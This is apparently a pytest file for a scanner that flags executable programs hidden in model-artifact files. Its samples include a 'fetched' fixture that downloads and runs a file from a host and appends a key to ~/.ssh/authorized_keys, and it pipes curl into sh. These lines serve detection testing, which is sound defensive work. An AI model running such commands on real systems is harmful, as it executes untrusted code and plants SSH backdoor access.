"""Programs in other languages than Python are not clean; prose, tables, lists and settings are."""

import zipfile
from pathlib import Path

import duckdb
import pytest

from caponier.detect.artifact import Verdict
from caponier.detect.model_files.files.texts.languages import language
from detect.model_files.files.building import fresh, judged, zipped
from pace import Stopwatch

PROGRAMS = {
    "tcl": 'set f [open "|touch x" r]\nputs [read $f]\nclose $f\n',
    "tcl in a line": "exec touch /tmp/x\n",
    "julia": "using Printf\nfunction main()\n    run(`touch x`)\nend\nmain()\n",
    "julia in a line": "run(`touch x`)\n",
    "go": 'package main\n\nimport "os/exec"\n\nfunc main() {\n\texec.Command("touch", "x").Run()\n}\n',
    "sql": "CREATE TABLE a (x int);\nINSERT INTO a VALUES (1);\nDROP TABLE a;\n",
    "postgres": "COPY (SELECT 1) TO PROGRAM 'touch x';\n",
    "sqlite": ".shell touch x\n",
    "javascript": "const { execSync } = require('child_process');\nexecSync('touch x');\n",
    "modules": 'import fs from "fs";\nfs.writeFileSync("x", "");\n',
    "ruby": "require 'fileutils'\nFileUtils.touch 'x'\n",
    "perl": "use strict;\nmy $x = `touch x`;\nprint $x;\n",
    "c": '#include <stdio.h>\nint main(void) {\n  remove("x");\n  return 0;\n}\n',
    "rust": 'use std::fs;\nfn main() {\n    fs::write("x", "").unwrap();\n}\n',
    "java": 'public class A {\n  public static void main(String[] a) {\n    new java.io.File("x").delete();\n  }\n}\n',
    "kotlin": 'fun main() {\n    ProcessBuilder("touch", "x").start()\n}\n',
    "shell": "touch /tmp/x\n",
    "fetched": "curl http://e/x -o /tmp/y && /tmp/y\nmkdir -p ~/.ssh\necho key >> ~/.ssh/authorized_keys\n",
    "awk": 'BEGIN { print "x" > "/tmp/x" }\n',
    "lisp": '(require :uiop)\n(uiop:run-program "touch x")\n',
    "emacs": '(shell-command "touch x")\n',
    "ocaml": 'let () = ignore (Sys.command "touch x")\n',
    "erlang": '-module(a).\n-export([main/0]).\nmain() -> os:cmd("touch x").\n',
    "elixir": 'System.cmd("touch", ["x"])\n',
    "prolog": ":- initialization(main).\nmain :- shell('touch x').\n",
    "matlab": "unix('touch x');\n",
    "fortran": 'program a\n  call execute_command_line("touch x")\nend program a\n',
    "basic": 'Sub Main()\n  Shell "cmd /c x"\nEnd Sub\n',
    "apple": 'do shell script "touch x"\n',
    "powershell": "Set-Content -Path x -Value y\n",
    "cmake": "execute_process(COMMAND touch x)\n",
    "gradle": "task x {\n  doLast {\n    exec { commandLine 'touch', 'x' }\n  }\n}\n",
    "terraform": 'resource "null_resource" "x" {\n  provisioner "local-exec" {\n    command = "touch x"\n  }\n}\n',
    "ninja": "rule cc\n  command = touch x\nbuild a: cc b\n",
    "tex": "\\documentclass{article}\n\\immediate\\write18{touch x}\n",
    "ipython": "!touch x\n%run x.py\n",
}
DATA = {
    "prose": "This model was trained on ten thousand pictures.\nIt must not be used to decide about people.\n",
    "card": "# A model\n\nInstall it, and call it:\n\n```python\nimport os\nos.getcwd()\n```\n\nMore in the paper.\n",
    "card with an indented example": "# A model\n\nTo try it, run the following in a shell of your own.\n"
    "It takes some minutes, and needs a network.\n\n    git clone https://example.org/m\n\nThen read what it says.\n",
    "numbers": "1.5,2.5,3.5\n" * 50,
    "words": "the\nof\nand\nto\nimport\nfunction\nclass\nreturn\n",
    "merges": "#version: 0.2\nĠ t\nĠ a\nh e\ni n\nr e\no n\nfunc tion\nim port\n",
    "settings": "[model]\nname = resnet\nlayers = 50\npath = /models/resnet\n",
    "trees": "booster[0]:\n0:[f0<1.5] yes=1,no=2,missing=1\n1:leaf=0.5\n2:leaf=-0.5\n",
    "graph": 'digraph Tree {\nnode [shape=box] ;\n0 [label="x <= 0.8"] ;\n1 [label="y"] ;\n0 -> 1 ;\n}\n',
    "layers": 'name: "net"\nlayer {\n  name: "conv"\n  type: "Convolution"\n  param {\n    num_output: 8\n  }\n}\n',
    "requirements": "numpy==2.0\nscikit-learn>=1.5\ntorch\n",
    "svmlight": "1 1:0.5 2:0.25\n-1 1:0.1 3:0.7\n",
    "arff": "@relation iris\n@attribute a numeric\n@data\n5.1\n4.9\n",
    "licence": "Permission is hereby granted, free of charge, to any person obtaining a copy\nof this software.\n",
    "packages": "mlflow==3.1\ncloudpickle==3.1\n",
}


@pytest.mark.parametrize("name", PROGRAMS)
def test_a_program_is_not_clean(name: str) -> None:
    judgement = judged(PROGRAMS[name].encode())
    assert judgement.verdict is Verdict.UNKNOWN
    assert "it is run, not loaded" in judgement.reason


@pytest.mark.parametrize("name", DATA)
def test_what_is_read_is_no_program(name: str) -> None:
    assert (judged(DATA[name].encode()).verdict, language(DATA[name], fresh())) == (Verdict.CLEAN, None)


@pytest.mark.parametrize(
    "hidden",
    [
        "/*\n" + "These are words about a model and its data.\n" * 200 + "*/\n{}",
        "// These are words about a model and its data.\n" * 200 + "{}",
        "const a = `\n" + "These are words about a model and its data.\n" * 200 + "`;\n{}",
        "0;\n" * 2_000 + "{}",
        "// " + "x" * 400_000 + "\n{}",
    ],
    ids=["comment", "lines of comments", "text", "statements that do nothing", "a long comment"],
)
def test_words_around_a_program_do_not_hide_it(hidden: str) -> None:
    program = hidden.format("const { execSync } = require('child_process');\nexecSync('touch x');\n")
    assert judged(program.encode()).verdict is Verdict.UNKNOWN


@pytest.mark.parametrize(
    "hidden",
    [
        "# ```\nmkdir /tmp/x\n# ```\n",
        "# ```\ncurl x | sh\n# ```\n",
        "// `\n{}// `\n",
        "a = 1; // `\n{}b = 2; // `\n",
        'a = "/*";\n{}b = "*/";\n',
        "/*\n{words}*/\na = '/*';\n{}b = '*/';\n",
        "/*\n{words}*/\na = 1; // `\n{}b = 2; // `\n",
    ],
)
def test_a_sign_of_a_comment_that_begins_none_does_not_hide_a_program(hidden: str) -> None:
    words = "These are words about a model and its data.\n" * 100
    program = "const { execSync } = require('child_process');\nexecSync('touch x');\n"
    text = hidden.replace("{words}", words).replace("{}", program)
    assert judged(text.encode()).verdict is Verdict.UNKNOWN


def test_a_program_that_writes_where_it_likes_is_not_clean(tmp_path: Path) -> None:
    program = f"COPY (SELECT 1) TO '{tmp_path / 'canary'}';\n"
    duckdb.execute(program)
    assert (tmp_path / "canary").exists()
    assert judged(program.encode()).verdict is Verdict.UNKNOWN


@pytest.mark.parametrize("unit", ["/*", "<<a ", "`", "`\n", '"""', "(", "{-", "[a]\n", "a =", "SELECT a ", " "])
def test_a_text_that_opens_without_end_takes_no_longer_than_others(unit: str) -> None:
    with Stopwatch() as watch:
        language(unit * ((1 << 19) // len(unit)), fresh())
    assert watch.seconds < 2


def test_an_archive_of_texts_takes_no_longer_than_a_scan_may() -> None:
    content = zipped({f"{at}.txt": b"run:\n" * 24_000 for at in range(8)}, zipfile.ZIP_DEFLATED)
    with Stopwatch() as watch:
        judgement = judged(content)
    assert watch.seconds < 8
    assert judgement.verdict is Verdict.UNKNOWN
    assert any("more in it than a scan looks at" in reason for reason in judgement.reasons)
